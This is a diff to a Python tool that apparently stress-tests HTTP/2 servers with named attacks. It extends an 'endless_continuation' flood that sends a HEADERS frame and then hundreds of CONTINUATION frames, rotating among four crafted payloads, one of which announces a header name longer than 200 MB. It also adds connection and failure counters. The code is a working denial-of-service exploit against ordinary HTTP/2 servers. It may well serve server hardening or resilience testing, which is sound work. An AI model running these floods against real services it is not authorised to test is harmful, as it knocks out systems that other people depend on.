@@ -42,6 +42,7 @@ class Pace:
 
     def __init__(self, until, rate):
         self.until, self.actions = until, 0
+        self.connections = self.broken = 0  # how often the attack has begun, and how often that failed
         self._distance, self._next = 1 / rate, time.monotonic()
 
     def running(self):
@@ -141,12 +142,18 @@ def headers_without_config(address, pace):
 
 
 def endless_continuation(address, pace):
-    """A call whose headers never end."""
-    block = h2.header_block((b"x-endless", b"x" * 1000))
-    block *= h2.MAX_PAYLOAD // len(block)
+    """A call whose headers never end: of many fields, of one field, of references to the static table, or empty."""
+    field = h2.header_block((b"x-endless", b"x" * 1000))
+    first, block = [(INFER, field * (h2.MAX_PAYLOAD // len(field))),
+                    # A field whose name is announced to be longer than 200 MB.
+                    (INFER + b"\0\x7f\xff\xff\xff\x7f", b"x" * h2.MAX_PAYLOAD),
+                    (INFER, b"\x82" * h2.MAX_PAYLOAD),
+                    (INFER, b"")][pace.connections % 4]
     with h2.Connection(address) as connection:
-        connection.send(h2.frame(h2.HEADERS, 0, 1, INFER))
-        while pace.turn():
+        connection.send(h2.frame(h2.HEADERS, 0, 1, first))
+        for _ in range(500):
+            if not pace.turn():
+                return
             connection.send(h2.frame(h2.CONTINUATION, 0, 1, block))
             connection.pump()
 
@@ -291,16 +298,15 @@ BY_NAME = {attack.__name__: attack for attack in ATTACKS}
 ON_METRICS = {"scrapes", "silent_scrapes"}
 
 
-def run(name, address, until, rate):
-    """Runs an attack until its end. Returns the numbers of actions and of broken connections."""
-    pace, broken = Pace(until, rate), 0
+def run(name, address, pace):
+    """Runs an attack until its end."""
     while pace.running():
         try:
             BY_NAME[name](address, pace)
         except OSError:
-            broken += 1
+            pace.broken += 1
             time.sleep(0.01)
-    return pace.actions, broken
+        pace.connections += 1
 
 
 def start(name, addresses, seconds, rate=None):
@@ -321,9 +327,10 @@ def main():
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     host, _, port = arguments.address.rpartition(":")
-    actions, broken = run(arguments.name, (host.strip("[]"), int(port)), time.monotonic() + arguments.seconds,
-                          arguments.rate or ATTACKS[BY_NAME[arguments.name]])
-    print(json.dumps({"attack": arguments.name, "actions": actions, "broken_connections": broken}), flush=True)
+    pace = Pace(time.monotonic() + arguments.seconds, arguments.rate or ATTACKS[BY_NAME[arguments.name]])
+    run(arguments.name, (host.strip("[]"), int(port)), pace)
+    print(json.dumps({"attack": arguments.name, "actions": pace.actions, "broken_connections": pace.broken}),
+          flush=True)
 
 
 if __name__ == "__main__":
